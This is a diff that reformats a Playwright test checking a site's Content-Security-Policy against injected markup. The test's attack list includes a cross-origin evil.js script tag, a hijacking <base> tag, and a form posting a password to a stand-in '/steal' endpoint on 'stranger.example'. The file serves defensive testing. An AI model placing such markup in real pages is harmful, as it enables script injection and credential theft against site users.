@@ -6,12 +6,7 @@ const OTHER_ORIGIN = 'http://stranger.example';
 const INJECTED_SCRIPT = "document.documentElement.dataset.hacked = 'yes';";
 
 /** Serves `path` with `markup` in its head and without some headers. */
-async function serveInjected(
-  page: Page,
-  path: string,
-  markup: string,
-  removedHeaders: string[],
-): Promise<void> {
+async function serveInjected(page: Page, path: string, markup: string, removedHeaders: string[]): Promise<void> {
   await page.route(path, async (route) => {
     const response = await route.fetch();
     const headers = Object.fromEntries(
@@ -69,11 +64,7 @@ const ATTACKS: readonly (readonly [name: string, markup: string, violation: stri
     `<script src="${OTHER_ORIGIN}/evil.js"></script>`,
     `script-src-elem ${OTHER_ORIGIN}/evil.js`,
   ],
-  [
-    'a <base> that sends relative URLs to another site',
-    `<base href="${OTHER_ORIGIN}/">`,
-    `base-uri ${OTHER_ORIGIN}/`,
-  ],
+  ['a <base> that sends relative URLs to another site', `<base href="${OTHER_ORIGIN}/">`, `base-uri ${OTHER_ORIGIN}/`],
   ['a form that sends a password to another site', '', `form-action ${OTHER_ORIGIN}/steal`],
 ];
 
@@ -84,16 +75,13 @@ for (const [name, markup, violation] of ATTACKS)
     watch.allow(/./);
     const runAttack = async (targetPage: Page, removedHeaders: string[]) => {
       for (const [path, body] of Object.entries(WEAK_SCRIPTS))
-        await targetPage.route(path, (route) =>
-          route.fulfill({ contentType: 'text/javascript', body }),
-        );
+        await targetPage.route(path, (route) => route.fulfill({ contentType: 'text/javascript', body }));
       const requests = await serveOtherOrigin(targetPage, INJECTED_SCRIPT);
       await serveInjected(targetPage, '/about', markup, removedHeaders);
       await targetPage.goto('/about');
       if (markup === '') await targetPage.evaluate(postForm, `${OTHER_ORIGIN}/steal`);
       const isHacked = (otherOrigin: string) =>
-        document.documentElement.dataset.hacked === 'yes' ||
-        document.baseURI.startsWith(otherOrigin);
+        document.documentElement.dataset.hacked === 'yes' || document.baseURI.startsWith(otherOrigin);
       const hasSucceeded = async () =>
         requests.some((request) => request.startsWith('POST')) ||
         // A page that's navigating away can't be read.
@@ -101,9 +89,7 @@ for (const [name, markup, violation] of ATTACKS)
       return { requests, hasSucceeded };
     };
     const otherPage = await context.newPage();
-    await expect
-      .poll((await runAttack(otherPage, ['content-security-policy'])).hasSucceeded)
-      .toBe(true);
+    await expect.poll((await runAttack(otherPage, ['content-security-policy'])).hasSucceeded).toBe(true);
     await otherPage.close();
     expect(watch.violations).toEqual([]);
 
